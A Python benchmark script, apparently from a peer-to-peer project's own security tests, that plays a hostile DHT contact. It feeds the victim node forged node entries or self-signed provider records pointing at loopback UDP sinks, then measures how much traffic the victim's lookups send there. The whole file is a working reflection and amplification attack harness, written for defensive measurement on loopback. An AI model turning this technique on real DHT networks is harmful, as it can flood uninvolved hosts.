"""Attack (loopback only): a hostile DHT contact answers every FIND_NODE / GET_PROVIDERS
with 20 made-up keys at addresses of UDP sinks spread over 20 /24s of 127/8; the victim's
lookups then dial those addresses. Counts the datagrams and bytes the sinks receive
against the bytes the hostile sent.

python bench/atk3_dht_amplify.py --victim HOST:PORT:PEER_ID --api URL --token FILE --seconds 30
"""
from __future__ import annotations

import argparse
import asyncio
import json
import os
import time
import urllib.request
from typing import Any

from oasis.core import wire
from oasis.core.dhtrecord import node_id, sign_record
from oasis.core.identity import Identity
from oasis.core.stream import StreamId
from oasis.tools.hostile import dial, hang_up, parse_victim


class Sink(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.n = 0
        self.bytes = 0
        self.froms: set[tuple[str, int]] = set()

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        self.n += 1
        self.bytes += len(data)
        self.froms.add(addr)


def nearer_keys(target: bytes, mine: int, n: int) -> list[bytes]:
    t = int.from_bytes(target, "big")
    out: list[bytes] = []
    while len(out) < n:
        k = os.urandom(32)
        if node_id(k) ^ t < mine ^ t:
            out.append(k)
    return out


def api(url: str, token: str, method: str = "GET", body: Any = None) -> tuple[int, Any]:
    req = urllib.request.Request(url, method=method, data=None if body is None else json.dumps(body).encode(),
                                 headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=40) as r:
            return r.status, json.loads(r.read() or b"null")
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"null")


async def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--victim", required=True)
    ap.add_argument("--api", required=True)
    ap.add_argument("--token", required=True)
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--nets", type=int, default=20)
    ap.add_argument("--trigger", default="files", choices=["files", "watch", "none"])
    ap.add_argument("--mode", default="nodes", choices=["nodes", "records"],
                    help="nodes: made-up keys in NODES entries; records: self-signed provider "
                         "records (throw-away keys) naming the sinks")
    ap.add_argument("--link", default=None, help="watch: this stream link, plus the hostile as bootstrap")
    ap.add_argument("--fresh-ports", action="store_true", help="records: a random port at each sink host")
    a = ap.parse_args()
    v = parse_victim(a.victim)
    token = open(a.token).read().strip()
    loop = asyncio.get_running_loop()
    sinks: list[tuple[str, int, Sink]] = []
    for i in range(a.nets):
        host = f"127.{i + 1}.0.1"
        tr, s = await loop.create_datagram_endpoint(Sink, local_addr=(host, 0))
        sinks.append((host, tr.get_extra_info("sockname")[1], s))
    me = Identity.generate()
    my_id = node_id(me.public)
    conn = await dial(v, auth=True, identity=me)
    assert conn.authed.is_set(), conn.report()
    sent_bytes = 0
    answers = 0
    got: dict[str, int] = {}

    def send(msg: wire.Message) -> None:
        nonlocal sent_bytes
        f = wire.frame(msg)
        sent_bytes += len(f)
        conn.send_control(f)

    def on(msg: wire.Message) -> None:
        nonlocal answers
        name = type(msg).__name__
        got[name] = got.get(name, 0) + 1
        if a.mode == "records" and isinstance(msg, wire.DhtGetProviders) and sid_of is not None:
            now_ms = int(time.time() * 1000)
            recs = []
            for h, p, _ in sinks:
                ident = Identity.generate()
                port = int.from_bytes(os.urandom(2), "big") % 50000 + 10000 if a.fresh_ports else p
                recs.append(sign_record(ident, sid_of, now_ms, now_ms + 600_000, [(h, port)]).raw)
            answers += 1
            send(wire.DhtProviders(qid=msg.qid, records=recs, descriptor=b"", nodes=[]))
            return
        if a.mode == "records" and isinstance(msg, wire.DhtFindNode):
            send(wire.DhtNodesMsg(qid=msg.qid, nodes=[]))
            return
        if isinstance(msg, wire.DhtFindNode | wire.DhtGetProviders):
            target = msg.target if isinstance(msg, wire.DhtFindNode) else msg.key
            keys = nearer_keys(target, my_id, len(sinks))
            nodes = [wire.DhtNode(key=k, host=h, port=p) for k, (h, p, _) in zip(keys, sinks, strict=True)]
            answers += 1
            if isinstance(msg, wire.DhtFindNode):
                send(wire.DhtNodesMsg(qid=msg.qid, nodes=nodes))
            else:
                send(wire.DhtProviders(qid=msg.qid, records=[], descriptor=b"", nodes=nodes))
        elif isinstance(msg, wire.DhtPing):
            send(wire.DhtPong(qid=msg.qid))

    sid_of = StreamId.parse(a.link.split("://", 1)[1].split("?", 1)[0]) if a.link else None
    conn.on_message = on
    send(wire.DhtPing(qid=1))  # become a contact
    t0 = time.monotonic()
    triggers = 0
    if a.trigger == "watch":
        assert conn._transport is not None
        port = conn._transport.get_extra_info("sockname")[1]
        if a.link:
            link = a.link.replace("&b=", f"&b={me.peer_id}@127.0.0.1:{port}&b=", 1)
        else:
            link = f"oasis://{Identity.generate().peer_id}.x?b={me.peer_id}@127.0.0.1:{port}"
        watch = asyncio.ensure_future(asyncio.to_thread(api, f"{a.api}/watch", token, "POST", {"link": link}))
    while time.monotonic() - t0 < a.seconds and not conn.terminated.is_set():
        if a.trigger == "files" and triggers < int((time.monotonic() - t0) / 5) + 1:
            cid = "of1" + "".join("abcdefghijklmnopqrstuvwxyz234567"[b % 32] for b in os.urandom(52))
            st, body = await asyncio.to_thread(api, f"{a.api}/files/{cid}/fetch", token, "POST", {})
            if triggers == 0:
                print("trigger", st, str(body)[:200])
            triggers += 1
        await asyncio.sleep(0.5)
        send(wire.DhtPing(qid=int(time.monotonic() * 1000) & 0xFFFFFFFF))  # keep the service link alive
    await asyncio.sleep(3.0)
    if a.trigger == "watch":
        try:
            print("watch", *(await asyncio.wait_for(watch, 30)))
        except Exception as e:
            print("watch", repr(e))
    rep = conn.report()
    await hang_up(conn)
    total = sum(s.bytes for _, _, s in sinks)
    print(json.dumps({"seconds": a.seconds, "triggers": triggers, "answers_sent": answers,
                      "hostile_bytes_sent": sent_bytes, "received": got,
                      "sink_datagrams": sum(s.n for _, _, s in sinks), "sink_bytes": total,
                      "sinks_hit": sum(1 for _, _, s in sinks if s.n),
                      "amplification": round(total / max(1, sent_bytes), 2),
                      "per_sink": [s.n for _, _, s in sinks], "link": {k: rep[k] for k in ("closed", "close_code")}}))


if __name__ == "__main__":
    asyncio.run(main())
